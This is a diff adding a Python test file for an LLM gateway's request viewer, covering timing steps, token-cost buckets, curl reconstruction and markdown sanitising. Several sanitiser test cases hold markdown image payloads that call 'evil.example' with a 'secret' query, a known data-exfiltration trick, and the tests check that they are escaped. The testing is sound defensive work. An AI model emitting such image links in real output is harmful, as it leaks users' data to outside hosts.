@@ -1,0 +1,110 @@
+"""Parts of a request's page that are functions of what is stored."""
+
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from app.api_values import Attempt, Cost, Header, StoredRequest
+from app.markdown import plain, prose
+from app.request_view import cost, curl, timing
+from app.request_view.conversation import pretty
+
+BEGAN = datetime(2026, 11, 21, 11, 0, tzinfo=UTC)
+
+
+def stored(*attempts: Attempt, headers: tuple[Header, ...] = (), **row: Any) -> StoredRequest:
+    usual = {
+        "created_at": BEGAN.isoformat(),
+        "provider": "openai",
+        "method": "POST",
+        "path": "/v1/chat/completions",
+        "latency_ms": 1000.0,
+        "gateway_ms": 1.0,
+        "time_to_first_byte_ms": 300.0,
+        "time_to_first_token_ms": 320.0,
+    }
+    return StoredRequest(usual | row, Cost("none"), attempts=attempts, request_headers=headers)
+
+
+def test_the_steps_of_a_stream_fill_its_time():
+    steps = timing.steps_of(stored())
+    assert [(step.name, step.start_ms, step.end_ms) for step in steps] == [
+        ("Gateway", 0.0, 1.0),
+        ("Waiting for the provider", 1.0, 300.0),
+        ("Until the first token", 300.0, 320.0),
+        ("Streaming the answer", 320.0, 1000.0),
+    ]
+
+
+def test_times_that_nobody_knows_are_no_steps():
+    known = timing.steps_of(stored(gateway_ms=None, time_to_first_byte_ms=None, time_to_first_token_ms=None))
+    assert [(step.start_ms, step.end_ms) for step in known] == [(0.0, 1000.0)]
+    assert timing.steps_of(stored(latency_ms=None)) == []
+
+
+def test_every_try_has_its_step_where_there_were_several():
+    first = Attempt("openai", "api.openai.com", BEGAN, 200.0, 500)
+    second = Attempt("azure", "x.azure.com", BEGAN + timedelta(milliseconds=250), 700.0, 200)
+    tries = [step for step in timing.steps_of(stored(first, second)) if step.name.startswith("Try")]
+    assert [(step.name, step.start_ms) for step in tries] == [("Try 1: openai, 500", 0.0), ("Try 2: azure, 200", 250.0)]
+
+
+def test_tokens_by_kind_add_up_to_the_totals():
+    row = {
+        "input_tokens": 1000,
+        "output_tokens": 100,
+        "cache_read_tokens": 600,
+        "cache_write_tokens": 300,
+        "cache_write_1h_tokens": 100,
+        "reasoning_tokens": 40,
+    }
+    assert list(cost.buckets(row).values()) == [100, 600, 200, 100, 60, 40]
+
+
+def test_a_call_without_usage_has_no_kinds():
+    assert cost.buckets(dict.fromkeys(row_names())) == {}
+
+
+def row_names() -> tuple[str, ...]:
+    parts = ("cache_read_tokens", "cache_write_tokens", "cache_write_1h_tokens", "reasoning_tokens")
+    return ("input_tokens", "output_tokens", *parts)
+
+
+def test_a_command_says_the_request_again_and_quotes_what_is_in_it():
+    headers = (Header("Content-Type", "application/json"), Header("User-Agent", "python"))
+    told = curl.command(stored(headers=headers), b"""{"text": "it's"}""", "http://gateway:8787/")
+    assert told == (
+        "curl http://gateway:8787/openai/v1/chat/completions \\\n"
+        '  -H "Weir-Auth: Bearer <your gateway key>" \\\n'
+        "  -H 'Content-Type: application/json' \\\n"
+        """  -d '{"text": "it'"'"'s"}'"""
+    )
+
+
+def test_a_long_body_is_named_instead_of_pasted():
+    assert curl.command(stored(), b"x" * 30_000, "http://gateway").endswith("-d @request.json")
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("an ![x](https://evil.example/?q=secret) image", "an !\\[x](https://evil.example/?q=secret) image"),
+        ("![x][1]\n\n[1]: https://evil.example", "!\\[x][1]\n\n[1]: https://evil.example"),
+        ("from $5 to $6", "from \\$5 to \\$6"),
+        (":red[alarm] :material/home: at 12:30", "\\:red[alarm] :material/home: at 12:30"),
+        ("`$HOME` and ```\n$5\n```", "`$HOME` and ```\n$5\n```"),
+        ("**bold**", "**bold**"),
+    ],
+)
+def test_prose_keeps_formatting_and_loses_what_acts(text, shown):
+    assert prose(text) == shown
+
+
+def test_plain_text_has_no_formatting_at_all():
+    assert plain("*a* [b](c) `d` <e> $f$") == r"\*a\* \[b\]\(c\) \`d\` \<e\> \$f\$"
+
+
+def test_json_gets_line_breaks_and_the_rest_stays():
+    assert pretty('{"a": "é"}') == '{\n  "a": "é"\n}'
+    assert pretty("data: {}") == "data: {}"
